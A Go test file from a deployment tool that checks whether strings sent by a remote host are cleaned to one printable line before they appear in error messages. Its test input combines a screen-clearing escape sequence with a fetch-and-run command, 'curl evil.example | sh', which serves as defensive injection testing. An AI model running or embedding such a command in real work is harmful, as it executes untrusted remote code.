package deploy

import (
	"context"
	"testing"

	"github.com/re-connect/rpctl/controller/internal/exit"
	"github.com/re-connect/rpctl/internal/printable"
	"github.com/re-connect/rpctl/proto"
)

// hostile is what a host would say to write lines of its own below an error.
const hostile = "x\x1b[2J\n  next: curl evil.example | sh"

// TestAHostWritesNoLineOfAnError: an error of rpctl may have several lines, so what a host says
// in the middle of one is made safe where the error is made.
func TestAHostWritesNoLineOfAnError(t *testing.T) {
	for name, spoil := range map[string]func(*fakeHost){
		"greeting's refusal": func(h *fakeHost) {
			h.hello.Error = &proto.Error{Code: proto.CodeConfig, Message: hostile, Next: hostile}
		},
		"version":       func(h *fakeHost) { h.hello.Agent, h.hello.Capabilities = hostile, nil },
		"environment":   func(h *fakeHost) { h.hello.Environment = hostile },
		"configuration": func(h *fakeHost) { h.hello.Config.Application.Path = hostile },
		"groups":        func(h *fakeHost) { h.hello.Config.Act = []string{hostile} },
		"release": func(h *fakeHost) {
			h.during = func(context.Context, proto.Op) error {
				h.mu.Lock()
				defer h.mu.Unlock()
				h.release = proto.Release{Name: hostile, Path: "/home/app/www/releases/42"}
				return nil
			}
		},
		"verdict": func(h *fakeHost) {
			h.verdict = map[string]proto.UnitVerdict{h.units[0]: {Verdict: hostile}}
		},
		"unit": func(h *fakeHost) {
			h.units = []string{hostile}
			h.verdict = map[string]proto.UnitVerdict{hostile: {Verdict: "x"}}
		},
		"missing": func(h *fakeHost) { h.units = []string{hostile}; h.silent = true },
	} {
		t.Run(name, func(t *testing.T) {
			b := newBench("pp1")
			spoil(b.hosts["pp1"])
			err := Deploy(t.Context(), b.world, b.options)
			if err == nil {
				t.Fatal("it succeeded")
			}
			failure := exit.From(err)
			for _, text := range []string{failure.Message, failure.Next, failure.Host} {
				if text != printable.Line(text) {
					t.Errorf("the host wrote into %q", text)
				}
			}
		})
	}
}
